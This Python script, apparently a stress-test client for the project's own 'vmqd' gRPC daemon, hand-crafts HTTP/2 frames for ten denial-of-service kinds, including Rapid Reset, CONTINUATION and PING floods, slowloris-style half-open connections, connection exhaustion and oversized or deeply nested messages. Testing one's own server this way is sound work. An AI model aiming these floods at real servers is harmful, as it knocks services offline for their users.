#!/usr/bin/python3
"""A client of vmqd's API that does not behave, until it is killed.

  abuser.py KIND unix:/path                              as the user who runs it
  abuser.py KIND HOST:PORT DIRECTORY NAME                with DIRECTORY/NAME.pem of certificates.py

Prints one line when it has begun. A connection that is closed is made again. HTTP/2 frames are
written by hand (RFC 9113); no library would send these.
"""

import contextlib
import itertools
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    """HPACK: a literal without indexing."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call(method, stream, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, b"".join(itertools.starmap(field, (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/vmqd.v1.Vmqd/" + method),
        (b":authority", b"x"), (b"te", b"trailers"), (b"content-type", b"application/grpc")))))


HELLO = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)


class Abuser:
    def __init__(self, address, directory=None, name=None):
        self.address, self.context = address, None
        if directory:
            self.context = ssl.create_default_context(cafile=f"{directory}/ca.pem")
            self.context.load_cert_chain(f"{directory}/{name}.pem", f"{directory}/{name}.key")
            self.context.set_alpn_protocols(["h2"])

    def dial(self, tls=True):
        if self.address.startswith("unix:"):
            connection = socket.socket(socket.AF_UNIX)
            connection.connect(self.address[5:])
            return connection
        host, port = self.address.rsplit(":", 1)
        connection = socket.create_connection((host, int(port)))
        return self.context.wrap_socket(connection, server_hostname=host) if tls else connection

    def flood(self, pieces):
        """HELLO and then `pieces()`, again and again, on four connections at a time."""
        def one():
            while True:
                with contextlib.suppress(OSError), self.dial() as connection:
                    connection.settimeout(60)
                    connection.sendall(HELLO)
                    for piece in pieces():
                        connection.sendall(piece)
        for _ in range(3):
            threading.Thread(target=one, daemon=True).start()
        one()

    # --- kinds

    def connections(self):
        """10,000 one after the other, all kept; then again."""
        while True:
            kept = []
            for _ in range(10_000):
                with contextlib.suppress(OSError):
                    kept.append(self.dial(tls=False))
                if len(kept) > 900:  # of our own descriptors
                    kept.pop(0).close()

    def half_open(self):
        """They say a little, and then nothing."""
        kept = []
        while True:
            with contextlib.suppress(OSError):
                kept.append(self.dial(tls=False))
                kept[-1].sendall(b"\x16\x03\x01" if self.context else PREFACE[:10])
            if len(kept) > 200:
                kept.pop(0).close()
                time.sleep(0.01)

    def rapid_reset(self):
        self.flood(lambda: (call(b"GetSwitch", stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                            for stream in range(1, 1 << 30, 2)))

    def pings(self):
        self.flood(lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * 1000))

    def settings(self):
        self.flood(lambda: itertools.repeat(frame(SETTINGS, 0, 0) * 1000))

    def headers(self):
        self.flood(lambda: itertools.chain([frame(HEADERS, 0, 1, b"x")],
                                           itertools.repeat(frame(CONTINUATION, 0, 1, b"x" * 999))))

    def metadata(self):
        self.flood(lambda: (call(b"GetSwitch", stream, 0) + frame(
            CONTINUATION, END_HEADERS, stream, b"".join(
                field(b"x-%d" % i, b"x" * 100) for i in range(140))) for stream in itertools.count(1, 2)))

    def streams(self):
        self.flood(lambda: (call(b"GetSwitch", stream) for stream in range(1, 1 << 30, 2)))

    def oversize(self):
        """A message of 2 GiB begins."""
        self.flood(lambda: itertools.chain(
            [call(b"CreatePort", 1), frame(DATA, 0, 1, b"\0\x7f\xff\xff\xff")],
            itertools.repeat(frame(DATA, 0, 1, b"x" * 16_000))))

    def garbage(self):
        """Groups within groups, and none of them ends."""
        body = b"\x0b" * 100_000
        message = b"\0" + struct.pack(">I", len(body)) + body
        data = b"".join(frame(DATA, 0, 0, message[at:at + 16_000])
                        for at in range(0, len(message), 16_000))
        cut = [data[at:at + 16_009] for at in range(0, len(data), 16_009)]

        def on(stream):
            for piece in cut:
                yield piece[:5] + struct.pack(">I", stream) + piece[9:]
            yield frame(DATA, END_STREAM, stream)
        self.flood(lambda: itertools.chain.from_iterable(
            itertools.chain([call(b"CreatePort", stream)], on(stream))
            for stream in range(1, 1 << 30, 2)))


KINDS = ("connections", "half_open", "rapid_reset", "pings", "settings", "headers", "metadata",
         "streams", "oversize", "garbage")

if __name__ == "__main__":
    abuser = Abuser(*sys.argv[2:])
    abuser.dial().close()
    print("begun", flush=True)
    getattr(abuser, sys.argv[1])()
